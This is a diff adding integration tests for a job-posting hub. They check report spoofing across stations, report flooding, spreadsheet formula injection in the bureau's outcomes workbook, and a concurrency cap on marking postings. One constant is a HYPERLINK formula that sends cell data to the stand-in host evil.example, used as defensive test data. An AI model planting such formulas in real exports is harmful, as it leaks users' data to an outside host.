@@ -1,0 +1,113 @@
+"""A hostile caller against the routes that landed on 2026-12-03 (trust, outcomes, 即时快招), in
+process: what another station's staff, a phone script or a spreadsheet could make of them."""
+
+import io
+import re
+import threading
+
+import pytest
+from sqlalchemy import func, select
+
+from hub.staff.models import Role
+from hub.staff.service import Principal
+from hub.trust import service as trust
+from hub.trust.models import Report
+from tests.integration.test_console_lists import signed_in
+from tests.support.hub import posting_body
+
+STATION_2 = Principal(99, "s2", Role.STATION, frozenset({2}))
+# A kiosk named so by a station's staff (the console's device enrolment takes any name up to 60).
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+
+
+def csrf_of(page: str) -> str:
+    return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
+
+
+def reports_of(hub, pid: int) -> list[Report]:
+    with hub.app.state.db.read() as s:
+        return list(s.scalars(select(Report).where(Report.posting_id == pid)))
+
+
+@pytest.fixture
+def db_url(sqlite_url):
+    return sqlite_url
+
+
+def test_phone_reports_and_the_bureaus_workbook_resist_a_hostile_caller(hub):
+    from openpyxl import load_workbook
+
+    # 举报 from a phone page: a posting shown only at station 1, reported "from station 2"
+    pid = hub.ok("POST", "/api/v1/postings", json=posting_body(title="只在一号站", station_ids=[1]))["id"]
+    token = csrf_of(hub.client.get(f"/p/{pid}?s=1").text)
+    r = hub.client.post(f"/p/{pid}/report", data={"reason": "fees", "station": "2", "csrf_token": token})
+    assert r.status_code == 200 and "举报已收到" in r.text
+    [row] = reports_of(hub, pid)
+    assert row.station_id != 2  # station 2 does not show it: its staff must not be handed the report
+    with hub.app.state.db.read() as s:
+        assert pid not in {p.id for _r, p in trust.reports_for(s, STATION_2)}
+
+    # one address (or one phone) reporting one posting over and over: not one more count each time
+    for _ in range(10):
+        again = hub.client.post(f"/p/{pid}/report", data={"reason": "pay", "csrf_token": token})
+        assert again.status_code == 200 and "举报已收到" in again.text
+    for _ in range(3):
+        hub.client.post(f"/p/{pid}/report", data={"reason": "pay", "phone": "13912345678", "csrf_token": token})
+    assert len(reports_of(hub, pid)) <= 3
+
+    # the labour bureau's workbook: a name a station gave its kiosk is text, never a formula
+    hub.ok("POST", "/api/v1/devices", json={"name": FORMULA, "kind": "kiosk", "station_id": 1})
+    client = signed_in(hub, "bureau")
+    answer = client.get("/staff/outcomes.xlsx")
+    assert answer.status_code == 200
+    book = load_workbook(io.BytesIO(answer.content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert [c.value for c in cells if c.data_type == "f"] == []
+    assert FORMULA in [c.value for c in cells]  # (kept, as the text it is)
+
+
+def test_two_staff_marking_fast_at_once_cannot_pass_the_stations_cap(tmp_path, pg_url):
+    """PostgreSQL (read committed): two marks counted at once each saw room for one more. The
+    second must count after the first is committed (SQLite's IMMEDIATE writes serialise already)."""
+    import datetime as dt
+
+    from hub import admin
+    from hub.db import Database
+    from hub.errors import Conflict
+    from hub.postings import fast
+    from hub.postings.models import Posting
+    from hub.settings import Settings
+    from tests.support.hub import open_postings
+
+    admin.seed_hub(Settings(home=tmp_path / "hub", database_url=pg_url), 12, 7)
+    db = Database(pg_url)
+    admin_ = Principal(1, "admin", Role.ADMIN, frozenset())
+    first, second, third = open_postings(db, 1)[:3]
+    now = dt.datetime.now(dt.UTC)
+    mark = dict(by=admin_, now=now, hours=1, card_min=5, per_station=2)
+    try:
+        with db.write() as s:
+            fast.start(s, first, **mark)
+        one = db.write()
+        fast.start(one.__enter__(), second, **mark)  # the second mark, not committed yet
+        answers = []
+
+        def other_staff():
+            try:
+                with db.write() as s:
+                    fast.start(s, third, **mark)
+                answers.append("marked")
+            except Conflict:
+                answers.append("refused")
+
+        thread = threading.Thread(target=other_staff)
+        thread.start()
+        thread.join(1.0)  # (it waits for the first, or runs on with its count taken too early)
+        one.__exit__(None, None, None)
+        thread.join(10)
+        assert answers == ["refused"]
+        with db.read() as s:
+            shown = s.scalar(select(func.count()).select_from(Posting).where(Posting.fast_to > now))
+        assert shown == 2
+    finally:
+        db.dispose()
